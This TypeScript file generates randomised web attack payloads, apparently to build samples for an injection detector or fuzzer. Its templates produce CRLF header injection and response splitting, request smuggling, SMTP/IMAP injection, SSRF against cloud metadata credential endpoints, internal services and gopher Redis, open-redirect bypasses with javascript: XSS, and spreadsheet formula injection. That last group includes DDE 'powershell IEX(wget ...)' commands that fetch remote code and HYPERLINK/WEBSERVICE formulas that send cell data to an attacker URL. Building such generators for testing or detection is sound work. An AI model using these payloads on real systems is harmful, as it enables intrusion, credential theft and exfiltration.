import type { Rng } from '#models/rng.ts';
import {
  altered,
  capital,
  digits,
  family,
  hex,
  integer,
  letters,
  maybe,
  mostly,
  oneOf,
  repeat,
  text,
  words,
  write
} from '../template.ts';
import {
  ALPHANUMERIC,
  attackerHost,
  attackerUrl,
  base64,
  domain,
  inventedWord,
  LOWER,
  lowerWord,
  port,
  topDomain
} from '../vocabulary/shared.ts';
import { command, simpleCommand, unixFile, windowsFile } from '../vocabulary/systems.ts';

const lineEnd = mostly(
  ['\r\n', 5],
  ['%0d%0a', 4],
  ['\n', 2],
  ['%0a', 2],
  ['%0d', 1],
  ['\r', 0.7],
  ['\\r\\n', 1],
  ['%e5%98%8a%e5%98%8d', 0.6],
  ['\u560a\u560d', 0.6],
  ['%u000a', 0.6],
  ['%u000d%u000a', 0.4],
  ['%%0a0a', 0.3],
  ['%250d%250a', 0.5],
  ['%25%30%61', 0.3],
  ['%2f%2e%2e%0d%0a', 0.4],
  ['\u2028', 0.1],
  ['%c4%8d%c4%8a', 0.2],
  ['%3f%0d%0a', 0.3],
  ['%23%0d%0a', 0.3],
  ['#\r\n', 0.2],
  ['?\r\n', 0.2],
  ['\u0000\r\n', 0.1],
  ['%0d%0a%09', 0.2],
  ['%0D%0A%20', 0.2]
);
const header = oneOf(
  text`Set-Cookie:${maybe(' ')}${lowerWord}=${lowerWord}${maybe('; HttpOnly')}`,
  text`Location:${maybe(' ')}${attackerUrl}`,
  text`X-${lowerWord}:${maybe(' ')}${lowerWord}`,
  text`Content-Length:${maybe(' ')}${integer(0, 99)}`,
  text`Content-Type:${maybe(' ')}text/html`,
  'X-XSS-Protection: 0',
  text`Refresh: 0; url=${attackerUrl}`,
  text`Host: ${attackerHost}`,
  text`X-Forwarded-For: 127.0.0.1`,
  'Transfer-Encoding: chunked',
  text`Link: <${attackerUrl}>; rel=stylesheet`,
  text`Access-Control-Allow-Origin: *`,
  text`Last-Modified: Mon, 27 Oct 2060 14:50:18 GMT`,
  text`HTTP/1.1 200 OK`,
  text`Injected-Header: ${lowerWord}`,
  text`Cookie: ${lowerWord}=${lowerWord}`
);
const mailHeader = oneOf(
  text`${words('Bcc Cc To bcc cc')}:${maybe(' ')}${lowerWord}@${attackerHost}${maybe(text`,${lowerWord}@${attackerHost}`)}`,
  text`Subject: ${lowerWord} ${lowerWord}`,
  text`From: ${lowerWord}@${attackerHost}`,
  text`Reply-To: ${lowerWord}@${attackerHost}`,
  'Content-Type: text/html',
  'Content-Type: multipart/mixed; boundary=x',
  text`X-Mailer: ${lowerWord}`
);
const value = mostly(
  ['', 3],
  [lowerWord, 2],
  ['/', 1.5],
  [text`/${lowerWord}`, 0.7],
  [text`${lowerWord}@${inventedWord}.com`, 1],
  ['%2f', 0.2],
  [integer(1, 99), 0.5],
  [text`https://${domain}/`, 0.4],
  ['/%2e%2e', 0.2],
  ['//', 0.2]
);

export const headerTemplates = family('other-injection/header', {
  'new-header': text`${value}${lineEnd}${maybe(' ', 0.1)}${header}`,
  'two-headers': text`${value}${lineEnd}${header}${lineEnd}${header}`,
  'response-splitting': text`${value}${lineEnd}${header}${lineEnd}${lineEnd}${oneOf('<html>', text`<script>alert(${integer(1, 9)})</script>`, text`HTTP/1.1 200 OK${lineEnd}Content-Type: text/html${lineEnd}${lineEnd}<h1>${lowerWord}</h1>`, text`<svg onload=alert(1)>`)}`,
  'content-length-zero': text`${value}${lineEnd}Content-Length: 0${lineEnd}${lineEnd}HTTP/1.1 ${integer(200, 302)} OK${lineEnd}${header}`,
  'set-cookie-only': text`${value}${lineEnd}Set-Cookie:${maybe(' ')}${oneOf(words('session PHPSESSID sid admin test role'), lowerWord)}${oneOf('=', '%3d')}${oneOf(lowerWord, 'true', integer(1, 99))}${maybe(text`;${maybe(' ')}${words('domain path')}=${oneOf('/', text`.${domain}`)}`)}`,
  'request-smuggling': text`${value}${oneOf(' HTTP/1.1', '')}${lineEnd}${header}${lineEnd}${lineEnd}${words('GET POST DELETE')} /${words('admin internal secret')}${maybe(text`/${lowerWord}`)} HTTP/1.1${maybe(text`${lineEnd}Host: ${oneOf('localhost', attackerHost)}`)}`,
  'mail-header': text`${lowerWord}@${inventedWord}.${topDomain}${lineEnd}${mailHeader}${maybe(text`${lineEnd}${mailHeader}`)}`,
  'mail-subject': text`${repeat(lowerWord, 1, 4, ' ')}${lineEnd}${mailHeader}${lineEnd}${lineEnd}${maybe(repeat(lowerWord, 3, 8, ' '))}`,
  'smtp-commands': text`${value}${lineEnd}${maybe(text`.${lineEnd}`)}${oneOf(text`RCPT TO:<${lowerWord}@${attackerHost}>`, text`MAIL FROM:<${lowerWord}@${attackerHost}>`, text`DATA${lineEnd}Subject: x`, 'QUIT', text`VRFY ${lowerWord}`)}${lineEnd}${maybe('DATA')}`,
  'imap-commands': text`"${lineEnd}${words('V100 Z900 A001')} ${oneOf('CAPABILITY', 'FETCH 1:* ALL', 'LOGOUT', 'LIST "" *')}${lineEnd}`,
  'log-line': text`${lowerWord}${lineEnd}${oneOf(text`[${words('INFO ERROR WARN')}] ${oneOf('Login successful', 'User logged in')} for user: ${words('admin root')}`, text`127.0.0.1 - - [01/Jan/20${digits(2)}:00:00:00 +0000] "GET /admin HTTP/1.1" 200 -`)}`,
  'cookie-behind-a-value': text`${mostly([repeat(inventedWord, 1, 3, ' '), 3], [integer(1, 9999), 2], [value, 1])}${maybe('?', 0.3)}${lineEnd}${words('Set-Cookie Set-cookie set-cookie SET-COOKIE Cookie')}:${oneOf(' ', '+', '')}${oneOf(inventedWord, capital(inventedWord), lowerWord)}=${oneOf(integer(1, 99), digits(18), hex(8, 32), inventedWord)}`,
  'any-header-behind-a-value': text`${mostly([repeat(inventedWord, 1, 3, ' '), 3], [integer(1, 9999), 2], [value, 1])}${maybe('?', 0.3)}${lineEnd}${oneOf(capital(inventedWord), text`X-${capital(inventedWord)}`, lowerWord, text`${capital(inventedWord)}-${capital(inventedWord)}`)}:${oneOf(' ', '+', '')}${oneOf(inventedWord, integer(1, 9999), hex(8, 32))}`,
  'only-line-ends': text`${value}${repeat(oneOf('%0d%0a', '%0a', '%0d', '\\r\\n'), 1, 4)}${oneOf(header, mailHeader)}`
});

/** One part of an address: decimal, octal, hexadecimal, with or without padding zeros. */
function numericPart(rng: Rng, value: number): string {
  const zeros = '0'.repeat(rng.chance(0.5) ? rng.int(1, 8) : 0);
  return rng.pick([String(value), String(value), `0${zeros}${value.toString(8)}`, `0x${zeros}${value.toString(16)}`]);
}
/** The same four octets in the forms old address parsers take: one to four parts, each in its own base. */
function numericHost(octets: readonly [number, number, number, number]): (rng: Rng) => string {
  const [a, b, c, d] = octets;
  const dotted = octets.join('.');
  return (rng) => {
    if (rng.chance(0.1))
      return rng.pick([
        `[::ffff:${dotted}]`,
        `[0:0:0:0:0:ffff:${dotted}]`,
        octets.map((part) => String(part + 256)).join('.')
      ]);
    const whole = ((a << 24) | (b << 16) | (c << 8) | d) >>> 0;
    const parts = rng.pick([
      [whole],
      [whole],
      [a, (b << 16) | (c << 8) | d],
      [a, b, (c << 8) | d],
      [a, b, c, d],
      [a, b, c, d]
    ]);
    const written = parts.map((part) => numericPart(rng, part)).join('.');
    return written === dotted ? `0x${whole.toString(16)}` : written;
  };
}
const anyNumericHost = (rng: Rng): string =>
  numericHost([rng.int(11, 223), rng.int(0, 255), rng.int(0, 255), rng.int(1, 254)])(rng);
const localHost = mostly(
  [
    words(
      '127.0.0.1 localhost 0.0.0.0 [::1] [::] 127.1 127.0.1 0 127.127.127.127 localtest.me 127.0.0.1.nip.io [0000::1] 0177.1 localhost.localdomain ip6-localhost [::ffff:127.0.0.1] 1.127.0.0.1.nip.io spoofed.burpcollaborator.net 127.000.000.1 \u24db\u24de\u24d2\u24d0\u24db\u24d7\u24de\u24e2\u24e3 host.docker.internal kubernetes.default.svc'
    ),
    4
  ],
  [numericHost([127, 0, 0, 1]), 3],
  [numericHost([192, 168, 0, 1]), 0.7],
  [text`10.0.${integer(0, 9)}.${integer(1, 254)}`, 0.6],
  [text`192.168.${integer(0, 9)}.${integer(1, 254)}`, 0.6],
  [text`172.${integer(16, 31)}.0.${integer(1, 9)}`, 0.3]
);
const metadataPath = oneOf(
  'latest/meta-data/',
  text`latest/meta-data/${words('iam/security-credentials/ hostname ami-id public-keys/0/openssh-key local-ipv4 iam/info')}`,
  'latest/user-data',
  'latest/dynamic/instance-identity/document',
  'computeMetadata/v1/instance/service-accounts/default/token',
  'metadata/instance?api-version=2021-02-01',
  'metadata/v1.json',
  'openstack/latest/meta_data.json',
  'opc/v1/instance/',
  'latest/api/token',
  'metadata/identity/oauth2/token'
);
const metadataHost = mostly(
  ['169.254.169.254', 5],
  [
    words(
      'metadata.google.internal 100.100.100.200 [fd00:ec2::254] 169.254.170.2 192.0.0.192 instance-data metadata 169.254.169.254.nip.io'
    ),
    3
  ],
  [numericHost([169, 254, 169, 254]), 4]
);

export const serverRequestTemplates = family('other-injection/server-request', {
  metadata: text`${oneOf('http://', 'http://', 'https://', '//')}${metadataHost}${maybe(text`:80`, 0.1)}/${metadataPath}`,
  'metadata-bare': text`${oneOf('http://', 'https://', '//')}${metadataHost}${oneOf('', '/', ':80/')}`,
  'local-service': text`${oneOf('http', 'https', 'http')}://${localHost}${maybe(text`:${words('80 22 443 8080 6379 9200 2375 8500 5432 3306 11211 27017 5000 9000 10250 25 8001')}`)}/${oneOf('', words('admin server-status actuator/env _cat/indices metrics containers/json v1/agent/self latest api/v1/pods flag admin/delete?username=carlos internal/'), unixFile)}`,
  gopher: text`gopher://${oneOf(localHost, attackerHost)}:${words('6379 25 3306 9000 11211 80 70')}/_${repeat(oneOf('%0d%0a', '%250d%250a', '*1', '$8', 'flushall', 'SET', lowerWord, '%20', text`%${hex(2)}`, 'MAIL%20FROM', 'config%20set%20dir'), 3, 24)}`,
  'other-protocols': text`${words('dict ftp tftp ldap sftp ldaps netdoc imap smtp telnet rtsp smb')}://${oneOf(localHost, attackerHost)}:${port}/${oneOf('', lowerWord, 'info', 'stats', 'x')}`,
  'file-url': text`${oneOf('file', 'FILE', 'url:file', 'view-source:file', 'local_file', 'netdoc')}:${words('/// // / ////')}${oneOf(unixFile, text`c:/${windowsFile}`, text`localhost/${unixFile}`)}`,
  'user-info-trick': text`http${maybe('s')}://${domain}${oneOf('@', '%40', '#@', '\\@', '&@', ':80@', '%2523@', '?@', ':80%40', '%00@')}${oneOf(localHost, metadataHost)}${oneOf('/', '', text`:${port}`)}`,
  redirector: text`http${maybe('s')}://${attackerHost}/${words('redirect r redir.php')}?${words('url to u')}=${oneOf('http://', 'gopher://', 'file:///')}${oneOf(localHost, metadataHost, 'etc/passwd')}`,
  'host-override': text`${oneOf('http://', '')}${localHost}${oneOf('%00', '%09', '%20', '#', '?', '\\')}.${domain}${maybe('/')}`,
  'dns-rebinding': text`http://${oneOf(text`${hex(8)}.${hex(8)}.rbndr.us`, text`make-127-0-0-1-and-${integer(1, 99)}-rr.1u.ms`, text`${letters(LOWER, 8)}.${words('nip.io sslip.io xip.io')}`, text`127.0.0.1.${attackerHost}`)}${maybe(text`:${port}`)}/`
});

const slashes = oneOf(
  '//',
  '///',
  '////',
  '/\\',
  '\\/\\/',
  '/\\/',
  '\\\\',
  '/%5c',
  '/%2f',
  '//%5c',
  '%2f%2f',
  '/%09/',
  '/\t/',
  '/%0d/',
  '///\\',
  '/..//',
  '//%2f',
  '\\/',
  '/.//',
  '///\\;@',
  '%5c%5c',
  '/〱',
  '〱',
  '%E3%80%B1',
  '/%2f%2f',
  '/;@',
  '/\\\\',
  '/%68%74%74%70:',
  '.',
  '/.'
);
const evil = mostly(
  [attackerHost, 3],
  [words('google.com www.google.com evil.com bing.com localdomain.pw'), 3],
  [anyNumericHost, 2],
  [text`www.${inventedWord}.com@www.google.com`, 1.5],
  [text`${inventedWord}.${topDomain}@${attackerHost}`, 1.5],
  [altered(attackerHost, (host) => host.replaceAll('.', '%E3%80%82')), 0.4],
  [altered(attackerHost, (host) => host.replaceAll('.', '\u3002')), 0.3],
  [text`${inventedWord}%00.com`, 0.3],
  [text`www.${inventedWord}.com.${attackerHost}`, 0.4],
  [text`${letters('<>^*(){}|~', 1, 3)}${letters(LOWER, 1, 4)}.${letters(LOWER, 2, 6)}@${attackerHost}`, 0.4],
  [altered(attackerHost, (host) => Array.from(host, (letter) => `%${letter.charCodeAt(0).toString(16)}`).join('')), 0.2]
);
const trail = mostly(
  ['', 3],
  ['/', 1],
  ['//', 1],
  ['/%2f..', 0.8],
  ['/%2e%2e', 0.7],
  ['/%2f%2e%2e', 0.8],
  ['/..', 0.5],
  ['/%2e%2e%2f', 0.7],
  ['%2f..', 0.3],
  ['/%f0%9f%92%a9', 0.1],
  ['?', 0.3],
  ['#', 0.3],
  [text`?${domain}`, 0.4],
  [text`#${domain}`, 0.3],
  [text`/${lowerWord}`, 0.5]
);
export const redirectTemplates = family('other-injection/redirect', {
  slashes: text`${slashes}${evil}${trail}`,
  'protocol-tricks': text`${oneOf('/http:', '/https:', 'HtTp:', 'hTTps:', 'ht\ttps:', 'http%3a', '/https%3a', 'https%3A', ':', ';', '@', 'x:', '/ //', '%68%74%74%70%3a')}${slashes}${evil}${trail}`,
  'no-slashes': text`${words('http: https: /http: /https: HTTP: ftp:')}${oneOf('', '', '/', '\\')}${oneOf(evil, anyNumericHost, text`${letters(ALPHANUMERIC, 4, 14)}@${anyNumericHost}`, text`www.${inventedWord}.com@${attackerHost}`)}${trail}`,
  'numeric-host': text`${oneOf('http://', 'https://', '//', 'http:', 'http:///')}${anyNumericHost}${oneOf('', '', '/', text`:${port}`)}`,
  'numeric-host-behind-user': text`${oneOf('http://', 'https://', 'http:', '//')}${oneOf(text`www.${inventedWord}.${topDomain}`, text`${letters(ALPHANUMERIC, 4, 14)}`, text`${letters(ALPHANUMERIC + '<>\\^*|~.', 6, 14)}`, domain)}@${anyNumericHost}`,
  'marks-before-host': text`${maybe('/')}${oneOf(letters('\u3031\u3032\u3033\u3034\u3035\u309d\u309e\u30fb\u30fc\u30fd\u30fe\u3002\u2044\uff0f\uff3c', 1, 2), '\u2025/', '\u0000//', '%00//', '\u00b4//')}${evil}${trail}`,
  'odd-path': text`/${oneOf('%5c', '%5c%5c', '%2f%2f', '%09/', '%0d/', '\\\\', '%2f%5c', '\t/', '.%2f/', '%2f', '\\t/', '/%09/', '%68%74%74%70%3a%2f%2f')}${oneOf('example.com', 'google.com', attackerHost)}${trail}`,
  'user-info': text`${oneOf('http://', 'https://', '//', '/http://', '///')}${domain}${oneOf('@', '%40', '\\@', '%2f@', ';@', '%00@', '%5c@', ':80@', '&%40', ':80#@', '\\.', '%E5%98%8A%E5%98%8D@', '?@', '.@', '[@')}${evil}${trail}`,
  suffix: text`${oneOf('http://', 'https://', '//')}${attackerHost}${oneOf('%23.', '%3f.', '?', '#', '%5c.', '%252f', '%E3%80%82', '\\', '%2f%2f', '/?', '/#', '%00', '%0a', '\u0000')}${domain}`,
  'script-redirect': text`${maybe(oneOf('/', '//', '\\'))}${oneOf(
    'javascript:',
    'javascript://',
    'java%0d%0ascript:',
    'javascript%3a',
    'data:text/html,',
    'jaVAscript:',
    '%6a%61vascript:',
    '/javascript:',
    'javascript//:',
    'vbscript:',
    '\u0001javascript:',
    altered(text`<script>${lowerWord}`, (markup) => `data:text/html;base64,${base64(markup)}`)
  )}${oneOf(text`alert(${integer(1, 99)})${maybe(';')}`, text`%0a${words('alert confirm prompt')}(${oneOf('1', 'document.domain', 'document.cookie')})`, '<script>alert(1)</script>', text`//%0aalert(${integer(1, 9)})`)}`,
  'dots-and-numbers': text`${oneOf('http://', '//', 'https://', '/http://', 'http:')}${maybe(text`${letters(ALPHANUMERIC + '<>^*|~', 2, 14)}${oneOf('@', '@', '.', '%40')}`)}${anyNumericHost}${trail}`,
  'escaped-path': text`/${oneOf('%2f', '%5c', '%09', '%0d', '%00', '.', '..', '%2e%2e', '%3f', '%23')}${oneOf('/', '%2f', '\\', '%5c', '//')}${evil}${trail}`,
  'right-to-left': text`${oneOf('//', 'http://')}${oneOf('%E2%80%AE', '\u202e')}${altered(evil, (host) => Array.from(host).reverse().join(''))}`,
  parameter: text`${oneOf('/', '')}${words('redirect login out logout go link')}?${words('url next to return dest u r target continue redirect_uri')}=${oneOf(slashes, '///', '/\\/', '\\/\\/', 'http:/\\', '//%5c')}${evil}`,
  'every-parameter': (rng) => {
    const target = write(rng, oneOf(text`${oneOf('https://', 'http://', 'Https://', '/\\/', '//', '///')}${evil}`));
    return `/${rng.pick(['', 'redirect', 'login'])}?${rng
      .shuffle(['url', 'next', 'redirect', 'redir', 'rurl', 'redirect_uri', 'dest', 'target', 'return'])
      .slice(0, rng.int(3, 9))
      .map((name) => `${name}=${target}`)
      .join('&')}`;
  }
});

const cell = oneOf(text`${letters('ABCDEFG', 1)}${integer(1, 20)}`, integer(1, 20));
export const spreadsheetTemplates = family('other-injection/spreadsheet', {
  'dynamic-data-exchange': text`${oneOf('=', '+', '-', '@', '=+', '-+', '\t=', '\r=', '%0A=', ';=', ',=', '"=', "'=", '=1+1+', '=2+5+')}${oneOf('cmd', 'DDE("cmd"', 'MSEXCEL', 'rundll32', 'powershell', 'cmd.exe')}|'${maybe(' ')}/${oneOf('c', 'C', 'k', 'k')} ${oneOf(simpleCommand, 'calc', 'calc.exe', 'notepad', text`powershell IEX(wget ${attackerUrl})`)}${maybe(' ')}'!${oneOf('A0', 'A1', "'x'", '_xlbgnm.A1', cell)}`,
  hyperlink: text`${oneOf('=', '+', '-', '@', '"=')}HYPERLINK(${oneOf(text`"${attackerUrl}?x="&${cell}&${cell}`, text`CONCATENATE("${attackerUrl}?v=",${cell})`, text`"${attackerUrl}"`)},"${oneOf('Click here', 'Error: please click', lowerWord)}")`,
  'web-functions': text`${oneOf('=', '+', '-', '@')}${oneOf(text`IMPORTXML(CONCAT("${attackerUrl}?v=",CONCATENATE(${cell}:${cell})),"//a")`, text`WEBSERVICE("${attackerUrl}?"&${cell})`, text`IMAGE("${attackerUrl}?"&${cell})`, text`IMPORTDATA("${attackerUrl}")`, text`IMPORTFEED(CONCAT("${attackerUrl}?a=",${cell}))`, text`IMPORTRANGE("${attackerUrl}","${cell}:${cell}")`, text`IMPORTHTML("${attackerUrl}","table",1)`)}`,
  'call-functions': text`${oneOf('=', '@', '+')}${oneOf(text`SUM(1+${integer(1, 99)})*cmd|' /C ${words('calc notepad')}'!A0`, text`EXEC("${simpleCommand}")`, text`CALL("Kernel32","WinExec","JCJ","${simpleCommand}",0)`, text`REGISTER.ID("${lowerWord}","${lowerWord}")`, text`'file:///${unixFile}'#$passwd.A1`, text`cmd|'/c ${command}'!A1`, text`DDE("cmd";"/C ${simpleCommand}";"x")`, text`MSQUERY|'${attackerUrl}'!A1`)}`
});
